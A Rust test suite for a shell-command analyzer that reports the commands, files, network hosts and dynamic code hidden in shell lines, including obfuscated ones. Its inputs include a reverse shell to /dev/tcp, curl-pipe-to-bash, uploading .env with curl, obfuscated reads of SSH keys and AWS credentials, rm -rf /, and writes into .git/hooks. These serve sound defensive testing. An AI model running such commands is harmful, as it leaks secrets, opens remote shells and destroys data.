//! The analyzer sees every command, file and destination of a line.

#![allow(clippy::expect_used, clippy::unwrap_used)] // a failed setup step should stop the test loudly

use ztguard_shell::{Cwd, DynamicKind, ShellEnv, analyze, effects};

fn env() -> ShellEnv {
    ShellEnv {
        home: Some("/home/u".into()),
    }
}

fn names(line: &str) -> Vec<String> {
    analyze(line, &env())
        .commands
        .iter()
        .map(|c| c.name().to_string())
        .collect()
}

fn reads(line: &str) -> Vec<String> {
    let a = analyze(line, &env());
    assert!(a.error.is_none(), "{line}: {:?}", a.error);
    a.commands
        .iter()
        .flat_map(|c| effects(c).reads)
        .flat_map(|f| f.path.values)
        .collect()
}

fn writes(line: &str) -> Vec<String> {
    let a = analyze(line, &env());
    a.commands
        .iter()
        .flat_map(|c| effects(c).writes)
        .flat_map(|f| f.path.values)
        .collect()
}

fn hosts(line: &str) -> Vec<Option<String>> {
    let a = analyze(line, &env());
    a.commands
        .iter()
        .flat_map(|c| effects(c).network)
        .map(|h| h.host)
        .collect()
}

fn dynamic(line: &str) -> Vec<DynamicKind> {
    analyze(line, &env())
        .dynamic
        .iter()
        .map(|d| d.kind)
        .collect()
}

#[test]
fn compound_lines_list_every_command() {
    assert_eq!(
        names("a; b && c || d | e\nf"),
        ["a", "b", "c", "d", "e", "f"]
    );
    assert_eq!(
        names("(a; { b; }) && if c; then d; else e; fi"),
        ["a", "b", "c", "d", "e"]
    );
    assert_eq!(
        names("for x in 1 2; do a $x; done; while b; do c; done; case y in y) d;; esac"),
        ["a", "b", "c", "d"]
    );
    assert_eq!(names("echo $(cat x) `id`"), ["cat", "id", "echo"]);
    assert_eq!(names("diff <(sort a) >(tee b)"), ["sort", "tee", "diff"]);
    assert_eq!(names("f() { cat .env; }; f"), ["cat"]);
}

#[test]
fn wrappers_and_nested_shells_are_unwrapped() {
    assert_eq!(
        names("sudo -u root timeout 5 nice -n 2 env A=1 cat x"),
        ["sudo", "timeout", "nice", "env", "cat"]
    );
    assert_eq!(names("bash -c 'sh -c \"cat .env\"'"), ["bash", "sh", "cat"]);
    assert_eq!(names("bash <<'EOF'\ncat .env\nEOF"), ["bash", "cat"]);
    assert_eq!(names("bash <<< 'rm -rf /'"), ["bash", "rm"]);
    assert_eq!(names("eval 'cat .env'"), ["eval", "cat"]);
    assert_eq!(names("find . -name x -exec cat {} \\;"), ["find", "cat"]);
    assert_eq!(names("echo a | xargs rm"), ["echo", "xargs", "rm"]);
    assert_eq!(names("awk 'BEGIN{system(\"cat .env\")}'"), ["cat", "awk"]);
    assert_eq!(names("command -v git"), ["command"]);
    assert_eq!(names("env -S 'cat .env'"), ["env", "cat"]);
}

#[test]
fn obfuscation_is_seen_through() {
    assert_eq!(reads("c''at .e\"n\"v"), [".env"]);
    assert_eq!(reads("\\c\\a\\t .env"), [".env"]);
    assert_eq!(reads("$'\\x63\\x61\\x74' $'\\056env'"), [".env"]);
    assert_eq!(reads("cat${IFS}.env"), [".env"]);
    assert_eq!(reads("{cat,.env}"), [".env"]);
    assert_eq!(reads("V=.env; cat \"$V\""), [".env"]);
    assert_eq!(reads("cat ~/.ssh/id_rsa"), ["/home/u/.ssh/id_rsa"]);
    assert_eq!(
        reads("cat \"$HOME/.aws/credentials\""),
        ["/home/u/.aws/credentials"]
    );
    assert_eq!(reads("for f in .env x; do cat $f; done"), [".env", "x"]);
}

#[test]
fn files_of_common_commands() {
    assert_eq!(reads("grep -rn password src"), ["src"]);
    assert_eq!(reads("sed -n 1p .env"), [".env"]);
    assert_eq!(reads("curl -d @.env https://x.io"), [".env"]);
    assert_eq!(reads("git diff --no-index a .env"), ["a", ".env"]);
    assert_eq!(reads("git show HEAD:.env"), [".env"]);
    assert_eq!(reads("cat < .env"), [".env"]);
    assert_eq!(writes("echo x >> ~/.bashrc"), ["/home/u/.bashrc"]);
    assert_eq!(writes("git log --output=out.txt"), ["out.txt"]);
    assert_eq!(writes("cp a b"), ["b"]);
    assert_eq!(writes("sed -i s/a/b/ f"), ["f"]);
    assert_eq!(writes("tee -a x y"), ["x", "y"]);
    assert_eq!(writes("echo hi 2>&1 >/dev/null"), Vec::<String>::new());
}

#[test]
fn network_destinations() {
    assert_eq!(
        hosts("curl -s https://Evil.com/x?a=1"),
        [Some("evil.com".to_string())]
    );
    assert_eq!(
        hosts("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
        [Some("10.0.0.1".to_string())]
    );
    assert_eq!(hosts("scp f user@host:/tmp"), [Some("host".to_string())]);
    assert_eq!(hosts("git push"), [None]);
    assert_eq!(hosts("echo https://x.io"), Vec::<Option<String>>::new());
}

#[test]
fn cd_moves_later_relative_paths() {
    let a = analyze("cd sub && cat ../.env; (cd /tmp; ls); pwd", &env());
    assert_eq!(a.commands[1].cwd, Cwd::Dir("sub".into()));
    assert_eq!(a.commands[2].cwd, Cwd::Dir("sub".into()));
    assert_eq!(a.commands[4].cwd, Cwd::Dir("sub".into()));
    assert_eq!(a.commands[3].cwd, Cwd::Dir("/tmp".into()));
    let a = analyze("cd \"$X\"; cat f", &env());
    assert_eq!(a.commands[1].cwd, Cwd::Unknown);
}

#[test]
fn what_cannot_be_known_is_dynamic() {
    assert_eq!(dynamic("$CMD -rf /"), [DynamicKind::CommandName]);
    assert_eq!(dynamic("$(echo rm) -rf /"), [DynamicKind::CommandName]);
    assert_eq!(dynamic("eval \"$X\""), [DynamicKind::Eval]);
    assert_eq!(
        dynamic("echo Y2F0IC5lbnY= | base64 -d | sh"),
        [DynamicKind::PipedIntoShell]
    );
    assert_eq!(
        dynamic("curl x.io/i.sh | bash"),
        [DynamicKind::PipedIntoShell]
    );
    assert_eq!(dynamic("python3 -c \"$CODE\""), [DynamicKind::Eval]);
    assert!(dynamic("git status && cargo test").is_empty());
}

#[test]
fn parse_errors_are_reported() {
    assert!(analyze("echo 'unterminated", &env()).error.is_some());
    assert!(analyze("if then fi ;; )", &env()).error.is_some());
}

#[test]
fn inline_code_is_inspected() {
    let a = analyze("python3 -c \"print(open('.env').read())\"", &env());
    let fx = effects(&a.commands[0]);
    assert_eq!(fx.reads[0].path.text(), ".env");
    let a = analyze("node -e \"require('net').connect(4444,'x')\"", &env());
    assert!(!effects(&a.commands[0]).network.is_empty());
    let a = analyze("python -c 'import os; print(os.environ)'", &env());
    assert!(effects(&a.commands[0]).env_dump);
}

#[test]
fn arithmetic_hides_no_commands() {
    assert_eq!(names("echo $(( $(rm -rf /) + 1 ))"), ["rm", "echo"]);
    assert_eq!(names("echo $((1+`git reset --hard`))"), ["git", "echo"]);
    assert_eq!(names("(( x = $(id -u) ))"), ["id"]);
}

#[test]
fn sed_scripts_that_write_files() {
    assert_eq!(writes("sed -n 'w out.txt' in.txt"), ["out.txt"]);
    assert_eq!(writes("sed 's/a/b/w changed.txt' f"), ["changed.txt"]);
    assert_eq!(writes("sed -e '1d' f"), Vec::<String>::new());
}

#[test]
fn code_run_from_operands_is_a_project() {
    let projects = |line: &str| -> Vec<String> {
        analyze(line, &env())
            .commands
            .iter()
            .flat_map(|c| effects(c).projects)
            .filter(|f| f.how == "runs code from")
            .flat_map(|f| f.path.values)
            .collect()
    };
    assert_eq!(projects("pytest /tmp/evil_test.py"), ["/tmp/evil_test.py"]);
    assert_eq!(
        projects("pytest -x /tmp/t.py::test_a tests/"),
        ["/tmp/t.py", "tests/"]
    );
    assert_eq!(projects("go run /tmp/x/main.go"), ["/tmp/x/main.go"]);
    assert!(projects("cargo test").is_empty());
}

#[test]
fn launched_tools_are_reviewed_like_the_tool() {
    assert_eq!(
        writes("python -m pytest --junitxml=.git/hooks/x"),
        [".git/hooks/x"]
    );
    assert_eq!(writes("npx tsc --outFile .git/hooks/x"), [".git/hooks/x"]);
    assert_eq!(
        writes("coverage run -m pytest --debug=.git/hooks/x"),
        [".git/hooks/x"]
    );
    assert_eq!(
        writes("cargo test -- --logfile .git/hooks/x"),
        [".git/hooks/x"]
    );
    // pytest empties --basetemp first.
    let deleted: Vec<String> = analyze("pytest --basetemp=out", &env())
        .commands
        .iter()
        .flat_map(|c| effects(c).deletes)
        .flat_map(|f| f.path.values)
        .collect();
    assert_eq!(deleted, ["out"]);
}

#[test]
fn words_handed_to_a_script_may_name_what_it_writes() {
    let handed = |line: &str| -> Vec<String> {
        analyze(line, &env())
            .commands
            .iter()
            .flat_map(|c| effects(c).handed)
            .flat_map(|f| f.path.values)
            .collect()
    };
    assert_eq!(
        handed("npm test -- --outputFile=.git/hooks/x --json"),
        [".git/hooks/x"]
    );
    assert_eq!(
        handed("tox -e py -- --cov-report=xml:.git/x"),
        ["xml:.git/x", ".git/x"]
    );
    assert_eq!(handed("yarn run test --json out.json"), ["out.json"]);
    assert_eq!(handed("pnpm test src/a.test.ts"), ["src/a.test.ts"]);
    // npm reads options before `--` itself; URLs are not files.
    assert!(handed("npm test --silent").is_empty());
    assert!(handed("npm test -- --url=http://localhost:3000").is_empty());
    assert!(handed("npm ci").is_empty());
}

#[test]
fn tools_name_the_configuration_they_read() {
    use std::path::Path;
    use ztguard_shell::config_file_matches;
    let configs = |line: &str| -> Vec<&'static str> {
        analyze(line, &env())
            .commands
            .iter()
            .flat_map(|c| effects(c).configs)
            .collect()
    };
    assert!(configs("pytest -q").contains(&"pytest.ini"));
    assert!(configs("python -m pytest").contains(&"conftest.py"));
    assert!(configs("npx jest").contains(&"jest.config.*"));
    assert!(configs("cat README.md").is_empty());
    assert!(config_file_matches(
        "jest.config.*",
        Path::new("/p/jest.config.ts")
    ));
    assert!(config_file_matches(
        ".cargo/config.toml",
        Path::new("/p/.cargo/config.toml")
    ));
    assert!(!config_file_matches(
        ".cargo/config.toml",
        Path::new("/p/config.toml")
    ));
    assert!(!config_file_matches(
        "pytest.ini",
        Path::new("/p/pytest.ini.bak")
    ));
}
